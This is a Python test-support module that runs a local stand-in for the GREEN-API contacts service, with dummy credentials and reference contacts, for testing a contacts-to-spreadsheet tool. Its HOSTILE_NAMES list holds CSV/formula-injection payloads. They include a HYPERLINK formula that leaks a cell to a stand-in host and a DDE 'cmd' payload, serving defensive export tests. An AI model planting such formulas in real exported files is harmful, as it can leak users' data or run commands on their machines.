"""The stand-in GREEN-API and the data tests feed it: a real HTTP server on
127.0.0.1 (pytest-httpserver), the credentials it accepts, reference, hostile
and synthetic contacts."""

from __future__ import annotations

import json
import threading
import time
from typing import Any

from pytest_httpserver import HTTPServer
from synthetic import make_contacts  # noqa: F401 (tests import it from here)
from werkzeug import Request, Response

from xl_contacts.api.client import GreenApiClient
from xl_contacts.base.names import ENV_API_TOKEN, ENV_API_URL, ENV_ID_INSTANCE
from xl_contacts.config.settings import Settings, load_settings
from xl_contacts.domain.demo import REFERENCE_PAGE_CONTACTS

# Long and distinctive, so a leak anywhere is found by a plain substring search.
TOKEN = "d75b3a66374942c5b3c019c698abc2067e151558acbd412345"
ID_INSTANCE = "1101823456"

REFERENCE_CONTACTS: list[dict[str, Any]] = [dict(c) for c in REFERENCE_PAGE_CONTACTS]
# Their rows as every front end shows them (written out, not computed: the expectation).
REFERENCE_ROWS = [
    ["10000000", "Василиса", "Василиса Премудрая", "user", "79876543210"],
    ["10000001", "Иван", "Иван Царевич", "user", "79998887766"],
    ["10000002", "Лягушка", "Царевна Лягушка", "user", ""],
]

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "bell\x07and\x00nul\x1bescape",
    "x" * 40_000,
    "\x01\x02",  # nothing a workbook can hold: an empty cell
    "_x003D_1+1",  # a workbook file's escape of "=": must stay this text
]


class FakeGreenApi:
    """The stand-in GREEN-API: answers getContacts for one instance."""

    def __init__(self, server: HTTPServer) -> None:
        self.server = server
        self.url = server.url_for("").rstrip("/")
        self.path = f"/waInstance{ID_INSTANCE}/getContacts/{TOKEN}"
        self._done = threading.Event()
        self._busy = 0
        self._handled = False  # a handler of answer_with ran
        self._busy_lock = threading.Lock()

    def answer(
        self,
        contacts: Any = None,
        *,
        status: int = 200,
        body: str | None = None,
        headers: dict[str, str] | None = None,
        content_type: str = "application/json",
        once: bool = False,
    ) -> None:
        """Register an answer; ``once`` answers are used up in registration order
        before the permanent one."""
        if body is None:
            body = json.dumps(REFERENCE_CONTACTS if contacts is None else contacts)
        expect = self.server.expect_oneshot_request if once else self.server.expect_request
        expect(self.path, method="GET").respond_with_response(
            Response(body, status=status, headers=headers, content_type=content_type)
        )

    def answer_state(self, state: str = "authorized", *, status: int = 200) -> None:
        """Register the answer of getStateInstance."""
        path = f"/waInstance{ID_INSTANCE}/getStateInstance/{TOKEN}"
        self.server.expect_request(path, method="GET").respond_with_response(
            Response(
                json.dumps({"stateInstance": state}), status=status, content_type="application/json"
            )
        )

    def answer_slowly(self, contacts: Any, delay: float, method: str = "getContacts") -> None:
        """Answer every request for ``method`` after ``delay`` seconds."""

        def handler(request: Request) -> Response:
            self._done.wait(delay)  # cut short when the test is over
            return Response(json.dumps(contacts), content_type="application/json")

        self.answer_with(handler, method)

    def answer_with(self, handler: Any, method: str = "getContacts") -> None:
        def counted(request: Request) -> Response:
            with self._busy_lock:
                self._busy += 1
                self._handled = True
            try:
                return handler(request)
            finally:
                with self._busy_lock:
                    self._busy -= 1

        path = f"/waInstance{ID_INSTANCE}/{method}/{TOKEN}"
        self.server.expect_request(path, method="GET").respond_with_handler(counted)

    def settle(self, timeout: float = 5.0) -> None:
        """End slow answers still under way (a client that gave up leaves them
        running), so that none lands in the next test's request log."""
        self._done.set()
        deadline = time.monotonic() + timeout
        while self._busy and time.monotonic() < deadline:
            time.sleep(0.01)
        if self._handled:
            # The server logs a request just after its handler returns (and before
            # the answer is sent: only an answer nobody waited for can be late).
            time.sleep(0.02)

    @property
    def requests(self) -> list[Request]:
        return [request for request, _ in self.server.log]

    def settings(self) -> Settings:
        """The stand-in's credentials as a user sets them: in the environment."""
        return load_settings(env=self.env())

    def client(self, **options: Any) -> GreenApiClient:
        options = {"timeout": (2.0, 5.0), **options}
        return GreenApiClient(self.settings(), **options)

    def env(self) -> dict[str, str]:
        return {ENV_API_URL: self.url, ENV_ID_INSTANCE: ID_INSTANCE, ENV_API_TOKEN: TOKEN}



class SkippingClock:
    """A clock for GreenApiClient(clock=...): the system's time plus every pause
    asked for, each recorded in ``pauses`` and skipped. The client sees the time
    it would see after waiting; the test sees the waits without waiting."""

    def __init__(self) -> None:
        self.pauses: list[float] = []
        self._skipped = 0.0
        self._lock = threading.Lock()

    def monotonic(self) -> float:
        return time.monotonic() + self._skipped

    def time(self) -> float:
        return time.time() + self._skipped

    def sleep(self, seconds: float) -> None:
        with self._lock:
            self.pauses.append(seconds)
            self._skipped += seconds
